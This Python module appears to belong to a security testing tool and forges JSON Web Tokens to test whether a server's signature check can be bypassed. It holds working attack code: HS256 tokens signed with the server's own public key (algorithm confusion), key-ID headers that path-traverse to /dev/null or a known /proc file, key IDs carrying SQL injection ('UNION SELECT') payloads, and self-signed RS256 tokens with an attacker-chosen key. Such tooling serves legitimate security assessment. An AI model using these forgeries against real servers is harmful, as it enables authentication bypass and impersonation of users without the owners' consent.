"""Tokens that are signed with what an attacker has: the public key of the server, a key that can be predicted, or a key of their own."""

import base64
import json
from collections.abc import Iterator
from functools import cache

from cryptography.exceptions import UnsupportedAlgorithm
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.hazmat.primitives.hashes import SHA256
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from msgspec import Struct

from assay.live.jwt import Token, signed

CURVES: dict[str, type[ec.EllipticCurve]] = {"P-256": ec.SECP256R1, "P-384": ec.SECP384R1, "P-521": ec.SECP521R1}
CHOSEN = "assay-7c1e"
"""A key that a value of ours brings along."""
RANDOM = "Zk2v8QpLr5Xw0TnYb7Jc3HsUe9MdGa4F"
"""A key that nothing leads to: who takes it verifies nothing."""
BITS = 2048


class Forgery(Struct, frozen=True):
    """A token of the same claims, and what would make a server take it."""

    text: str
    how: str
    """`signed with its public key`."""


def public_keys(document: object, name: str) -> list[str]:
    """The public keys of a JWK set as text, each in the ways that programs keep them; of the key `name` where it is there."""
    found = document.get("keys") if isinstance(document, dict) else None
    keys = [each for each in found if isinstance(each, dict)] if isinstance(found, list) else []
    chosen = [each for each in keys if name and each.get("kid") == name] or keys[:1]
    return list(dict.fromkeys(text for each in chosen for text in _written(each)))


def confused(known: Token, keys: list[str]) -> Iterator[Forgery]:
    """The claims signed as with a shared secret that is the public key."""
    for key in keys:
        yield Forgery(
            signed({**known.header, "alg": "HS256"}, known.claims, key), "signed with its public key as a secret"
        )


def led(known: Token) -> Iterator[Forgery]:
    """The claims under names of keys that lead to a content which everybody knows."""
    deep = "../" * 8
    for name, key, how in (
        (f"{deep}dev/null", "", "whose kid leads to an empty file"),
        ("/dev/null", "", "whose kid leads to an empty file"),
        (f"{deep}proc/sys/kernel/randomize_va_space", "2\n", "whose kid leads to a file that everybody knows"),
        (f"assay' UNION SELECT '{CHOSEN}", CHOSEN, "whose kid brings its key along in SQL"),
        (f"assay' UNION SELECT '{CHOSEN}' -- ", CHOSEN, "whose kid brings its key along in SQL"),
    ):
        yield Forgery(signed({**known.header, "alg": "HS256", "kid": name}, known.claims, key), how)


def unfounded(known: Token) -> Iterator[Forgery]:
    """What a server takes only when it verifies nothing: another finding than a key that was confused."""
    for name in (known.header.get("kid", "assay"), "../" * 8 + "dev/null", f"assay' UNION SELECT '{CHOSEN}"):
        header = {**known.header, "alg": "HS256", "kid": name}
        yield Forgery(signed(header, known.claims, RANDOM), "signed with a key that nothing leads to")
    yield own(known, {})


def own(known: Token, added: dict[str, object]) -> Forgery:
    """The claims signed with a key of our own, under a header that names where it is."""
    kept = {name: value for name, value in known.header.items() if name == "typ"}
    header = {**kept, "alg": "RS256", "kid": "assay", **added}
    text = f"{_part(header)}.{_part(known.claims)}"
    signature = _key().sign(text.encode("ascii"), padding.PKCS1v15(), SHA256())
    return Forgery(f"{text}.{_encoded(signature)}", "signed with a key of its own that it names itself")


def own_key() -> dict[str, object]:
    """The public half of our own key, as a JWK."""
    numbers = _key().public_key().public_numbers()
    return {
        "kty": "RSA",
        "kid": "assay",
        "use": "sig",
        "alg": "RS256",
        "n": _encoded(numbers.n.to_bytes(BITS // 8, "big")),
        "e": _encoded(numbers.e.to_bytes(3, "big")),
    }


@cache
def _key() -> rsa.RSAPrivateKey:
    return rsa.generate_private_key(65537, BITS)


def _written(jwk: dict[str, object]) -> Iterator[str]:
    key = _public(jwk)
    if key is None:
        return
    formats = [PublicFormat.SubjectPublicKeyInfo, *([PublicFormat.PKCS1] if isinstance(key, rsa.RSAPublicKey) else [])]
    for each in formats:
        text = key.public_bytes(Encoding.PEM, each).decode("ascii")
        yield from (text, text.rstrip("\n"))


def _public(jwk: dict[str, object]) -> rsa.RSAPublicKey | ec.EllipticCurvePublicKey | None:
    try:
        if jwk.get("kty") == "RSA":
            return rsa.RSAPublicNumbers(_number(jwk.get("e")), _number(jwk.get("n"))).public_key()
        if jwk.get("kty") == "EC" and (curve := CURVES.get(str(jwk.get("crv")))):
            return ec.EllipticCurvePublicNumbers(_number(jwk.get("x")), _number(jwk.get("y")), curve()).public_key()
    except (ValueError, UnsupportedAlgorithm):
        return None
    return None


def _number(value: object) -> int:
    text = str(value)
    return int.from_bytes(base64.urlsafe_b64decode(text + "=" * (-len(text) % 4)), "big")


def _part(value: dict[str, object]) -> str:
    return _encoded(json.dumps(value, separators=(",", ":")).encode())


def _encoded(content: bytes) -> str:
    return base64.urlsafe_b64encode(content).rstrip(b"=").decode("ascii")
